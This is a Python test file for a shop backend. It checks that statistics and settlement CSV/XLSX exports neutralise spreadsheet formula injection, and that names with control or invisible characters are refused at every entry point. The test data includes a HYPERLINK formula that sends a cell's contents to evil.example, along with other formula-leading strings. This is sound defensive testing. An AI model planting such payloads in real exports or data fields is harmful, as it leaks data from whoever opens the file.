"""Formula injection (issue 14, item 4): hostile names reach the statistics and settlement downloads only as text,
and names with control or invisible characters are refused at every door."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from api.handlers.settlements import yuan
from api.keys import DATABASE, WECHATPAY_SANDBOX
from api.wechat.pay_sandbox import wait_for_deliveries
from models.clock import today_shanghai
from models.errors import Invalid
from models.exports.csv_chunks import csv_chunks
from models.exports.spreadsheet_safety import safe_cell, xlsx_bytes
from models.services.card_batches import create_batch
from models.services.merchants import create_merchant
from models.services.staff_accounts import create_staff_user
from models.storage.database import activated
from models.tables.cards import CardBatch
from models.tables.catalog import Product, Supplier
from models.tables.merchants import Merchant, MerchantKind
from models.tables.users import Role, User
from tests.support.cards import buy_cards, pay_code, redeem
from tests.support.http import HEADER, admin_headers, auth, consumer_headers
from tests.support.orders import ADDRESS, order, pay

SUPPLIER = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
CATEGORY = "@SUM(1+1)"
PRODUCT = "=1+1"
MERCHANT = "=1+1 柜台"
API_SUPPLIER, API_PRODUCT, API_CATEGORY = "-2+3 合作社", "+SUM(A1:A9) 礼盒", "-品类"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
# CR/LF, bidi override, zero-width space, BOM, bidi isolate, NUL, TAB, C1 control, line separator
BAD_NAMES = ["好\r\n蜂蜜", "\u202e蜂蜜", "蜂\u200b蜜", "蜂\ufeff蜜", "蜂\u2066蜜", "蜂\x00蜜", "蜂\t蜜", "蜂\x85蜜",
             "蜂\u2028蜜"]


def catalog_line(sku: str, name: str, brand: str, category: str, supplier: str, tags: str = "",
                 aliases: str = "") -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([
        sku, name, brand, category, "盒", "10", "100", supplier, "企业", "广东省", "清远市", "佛冈县", f"EV-{sku}",
        "2099-12-31", "5", tags, aliases])
    return out.getvalue()


def catalog(*lines: str) -> bytes:
    return (HEADER + "\n" + "".join(lines)).encode()


async def post(client, url: str, body: dict, headers: dict, status: int) -> dict:
    resp = await client.post(url, json=body, headers=headers)
    answer = await resp.json()
    assert resp.status == status, answer
    return answer


@pytest.fixture
async def hostile(client):
    """Hostile names through the catalogue import and the admin API, sold online and at a hostile counter today."""
    admin = await admin_headers(client)
    data = catalog(catalog_line("EVIL-1", PRODUCT, "-brand", CATEGORY, SUPPLIER, "=tag", "@alias"))
    resp = await client.post("/api/v1/admin/catalog/import", data=data, headers={**admin, "Content-Type": "text/csv"})
    assert resp.status == 200, await resp.text()
    supplier = await post(client, "/api/v1/admin/suppliers", {"name": API_SUPPLIER, "type": "合作社",
                                                               "region_code": "441821"}, admin, 201)
    await post(client, f"/api/v1/admin/suppliers/{supplier['id']}/certify", {}, admin, 200)
    await post(client, "/api/v1/admin/products", {
        "sku": "EVIL-2", "name": API_PRODUCT, "brand": "@b", "category": API_CATEGORY, "unit": "盒", "price_fen": 500,
        "stock": 50, "supplier_id": supplier["id"], "origin_code": "520281"}, admin, 201)
    await post(client, "/api/v1/admin/products/EVIL-2/certify", {"cert_no": "EV-2", "valid_until": "2099-01-01"},
               admin, 200)
    merchant = await post(client, "/api/v1/admin/merchants", {"name": MERCHANT, "organization": "@org"}, admin, 201)
    staff = {"username": "-clerk", "password": "correct horse battery"}
    await post(client, f"/api/v1/admin/merchants/{merchant['id']}/staff", staff, admin, 201)
    clerk = auth((await post(client, "/api/v1/auth/staff", staff, {}, 200))["token"])
    alice = await consumer_headers(client, "alice")
    await post(client, "/api/v1/me/addresses", ADDRESS, alice, 201)
    card_no = (await buy_cards(client, alice))[0]["card_no"]
    await pay(client, alice, (await order(client, alice, ("EVIL-1", 2), ("EVIL-2", 1)))["order_no"])
    await wait_for_deliveries(client.app[WECHATPAY_SANDBOX])
    await redeem(client, clerk, await pay_code(client, alice, card_no), [("EVIL-1", 1), ("EVIL-2", 3)],
                 "evil-redemption-1")
    return {"admin": admin, "clerk": clerk}


def assert_safe_text(cells: list) -> None:
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(DANGEROUS) or NUMBER.match(value), f"unneutralised cell {value!r}"


async def download(client, url: str, headers: dict, **params: str) -> bytes:
    resp = await client.get(url, params=params, headers=headers)
    assert resp.status == 200, await resp.text()
    return await resp.read()


def csv_cells(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(raw: bytes) -> list:
    cells = [cell for row in load_workbook(io.BytesIO(raw)).active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    return [c.value for c in cells]


async def test_statistics_downloads_hold_no_formula(client, hostile):
    expected = {"supplier": {SUPPLIER, API_SUPPLIER}, "category": {CATEGORY, API_CATEGORY}, "merchant": {MERCHANT}}
    for group_by in ("supplier", "category", "merchant", "county", "day"):
        as_csv = csv_cells(await download(client, "/api/v1/admin/stats", hostile["admin"], group_by=group_by,
                                          format="csv"))
        as_xlsx = xlsx_cells(await download(client, "/api/v1/admin/stats", hostile["admin"], group_by=group_by,
                                            format="xlsx"))
        for cells in (as_csv, as_xlsx):
            assert_safe_text(cells)
            assert {"'" + name for name in expected.get(group_by, ())} <= set(cells), (group_by, cells)
        assert any(isinstance(v, int) and v > 0 for v in as_xlsx)  # numbers stay numbers


async def test_settlement_csvs_hold_no_formula(client, hostile):
    day = today_shanghai().isoformat()
    for url, headers in (("/api/v1/admin/settlements", hostile["admin"]),
                         ("/api/v1/merchant/settlements", hostile["clerk"])):
        cells = csv_cells(await download(client, url, headers, date=day, format="csv"))
        assert_safe_text(cells)
        assert {"'" + MERCHANT, "'" + PRODUCT, "'" + API_PRODUCT} <= set(cells)


def test_safe_cell_prefixes_text_only() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1"):
        assert safe_cell(text) == "'" + text
    for value in ("普通名称", "a=b", " =1", "", 5, -5, Decimal("-1.50"), 0.25, None):
        assert safe_cell(value) == value


def test_xlsx_writes_strings_and_survives_characters_xml_cannot_carry() -> None:
    raw = xlsx_bytes([["=1+1", -3, Decimal("-2.50"), "旧数据\x01名称", "-x"]], "t")
    row = next(load_workbook(io.BytesIO(raw)).active.iter_rows())
    assert [c.value for c in row] == ["'=1+1", -3, -2.5, "旧数据\ufffd名称", "'-x"]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]


def refused(answer: dict, field: str) -> None:
    assert answer["error"]["code"] == "validation_error", answer
    types = {"invalid_name_characters", "string_contains_nul"}  # NUL: refused for every string before the models
    assert [(e["loc"][0], e["type"] in types) for e in answer["error"]["details"]["errors"]] == [(field, True)], answer


async def test_names_with_control_or_invisible_characters_are_refused_by_the_api(client):
    admin = await admin_headers(client)
    supplier = await post(client, "/api/v1/admin/suppliers",
                          {"name": "好合作社", "type": "合作社", "region_code": "441821"}, admin, 201)
    product = {"sku": "OK-1", "name": "好蜂蜜", "brand": "好", "category": "蜂蜜", "unit": "瓶", "price_fen": 100,
               "supplier_id": supplier["id"], "origin_code": "441821", "tags": ["蜂蜜"], "aliases": ["土蜂蜜"]}
    await post(client, "/api/v1/admin/products", product, admin, 201)
    merchant = await post(client, "/api/v1/admin/merchants", {"name": "好专柜"}, admin, 201)
    alice = await consumer_headers(client, "alice")
    address = await post(client, "/api/v1/me/addresses", ADDRESS, alice, 201)
    batch = {"face_value_fen": 10000, "count": 1, "expires_at": (today_shanghai() + timedelta(days=30)).isoformat()}
    for bad in BAD_NAMES:
        refused(await post(client, "/api/v1/admin/suppliers", {"name": bad, "type": "企业"}, admin, 422), "name")
        resp = await client.patch(f"/api/v1/admin/suppliers/{supplier['id']}", json={"name": bad}, headers=admin)
        assert resp.status == 422
        refused(await resp.json(), "name")
        for field in ("name", "brand", "category", "unit"):
            refused(await post(client, "/api/v1/admin/products", {**product, "sku": "BAD-1", field: bad}, admin, 422),
                    field)
            resp = await client.patch("/api/v1/admin/products/OK-1", json={field: bad}, headers=admin)
            assert resp.status == 422
            refused(await resp.json(), field)
        for field in ("tags", "aliases"):
            refused(await post(client, "/api/v1/admin/products", {**product, "sku": "BAD-1", field: ["好", bad]},
                               admin, 422), field)
        for field in ("name", "organization", "address"):
            refused(await post(client, "/api/v1/admin/merchants", {"name": "某专柜", field: bad}, admin, 422), field)
        staff = {"username": bad, "password": "correct horse battery"}
        refused(await post(client, f"/api/v1/admin/merchants/{merchant['id']}/staff", staff, admin, 422), "username")
        refused(await post(client, "/api/v1/admin/card-batches", {**batch, "organization": bad}, admin, 422),
                "organization")
        refused(await post(client, "/api/v1/me/addresses", {**ADDRESS, "name": bad}, alice, 422), "name")
        resp = await client.patch(f"/api/v1/me/addresses/{address['id']}", json={"name": bad}, headers=alice)
        assert resp.status == 422
        refused(await resp.json(), "name")
        answer = await post(client, "/api/v1/auth/wechat", {"code": f"dev:{bad}x"}, {}, 422)
        assert answer["error"]["code"] in {"invalid_dev_code", *(["validation_error"] if "\x00" in bad else [])}
    with activated(client.app[DATABASE]):
        assert await Supplier.all().values_list("name", flat=True) == ["好合作社"]
        assert await Product.all().values_list("name", "brand", "category", "unit") == [("好蜂蜜", "好", "蜂蜜", "瓶")]
        assert await Merchant.all().values_list("name", flat=True) == ["好专柜"]
        assert await CardBatch.all().count() == 0
        assert await User.filter(role=Role.MERCHANT_STAFF).count() == 0
    # Spaces that are not control characters stay allowed: full-width, no-break, and at the ends trimmed as before.
    ok = await post(client, "/api/v1/admin/suppliers", {"name": " 好\u3000合作社\xa0二 ", "type": "企业"}, admin, 201)
    assert ok["name"] == "好\u3000合作社\xa0二"


async def test_catalogue_import_refuses_every_bad_name_with_its_line_and_column(client):
    admin = await admin_headers(client)
    lines = [catalog_line("OK-1", "好蜂蜜", "好", "蜂蜜", "好合作社")]
    columns = ["name", "brand", "category", "supplier", "tags", "aliases"]
    for n, column in enumerate(columns):
        values = {"name": "好蜂蜜", "brand": "好", "category": "蜂蜜", "supplier": "好合作社", "tags": "",
                  "aliases": ""}
        values[column] = "a|" + BAD_NAMES[n % len(BAD_NAMES)] if column in ("tags", "aliases") else BAD_NAMES[n]
        lines.append(catalog_line(f"BAD-{n}", **values))
    resp = await client.post("/api/v1/admin/catalog/import", data=catalog(*lines),
                             headers={**admin, "Content-Type": "text/csv"})
    answer = await resp.json()
    assert resp.status == 422, answer
    assert answer["error"]["code"] == "catalog_invalid", answer
    found = [(e["sku"], e["field"]) for e in answer["error"]["details"]["errors"]]
    assert found == [(f"BAD-{n}", column) for n, column in enumerate(columns)]
    assert all("U+" in e["reason"] for e in answer["error"]["details"]["errors"])
    with activated(client.app[DATABASE]):
        assert await Product.all().count() == 0
        assert await Supplier.all().count() == 0


async def test_the_services_own_doors_refuse_them_too(client):
    """What the command line reaches without the API's schemas: staff accounts, merchants, 以购代捐 batches."""
    with activated(client.app[DATABASE]):
        for bad in BAD_NAMES:
            with pytest.raises(Invalid) as caught:
                await create_staff_user(Role.ADMIN, bad, "correct horse battery")
            assert (caught.value.code, caught.value.details["field"]) == ("invalid_name_characters", "username")
            for field in ("name", "organization", "address"):
                values = {"name": "某专柜", field: bad}
                with pytest.raises(Invalid) as caught:
                    await create_merchant(None, kind=MerchantKind.COUNTER, **values)
                assert (caught.value.code, caught.value.details["field"]) == ("invalid_name_characters", field)
            with pytest.raises(Invalid) as caught:
                await create_batch(None, organization=bad, face_value_fen=10000, count=1, allowed_face_values=[10000],
                                   expires_at=today_shanghai() + timedelta(days=30))
            assert (caught.value.code, caught.value.details["field"]) == ("invalid_name_characters", "organization")
        assert await User.all().count() == 0
        assert await Merchant.all().count() == 0
        assert await CardBatch.all().count() == 0


def test_csv_neutralises_text_and_keeps_numbers() -> None:
    raw = b"".join(csv_chunks([["-5", -5, Decimal("-12.34"), "@x", "=a\nb"]]))
    assert raw.decode("utf-8-sig") == "'-5,-5,-12.34,'@x,\"'=a\nb\"\r\n"
    assert yuan(-1234) == Decimal("-12.34")
    assert str(yuan(5)) == "0.05"  # the settlement's yuan column: numbers
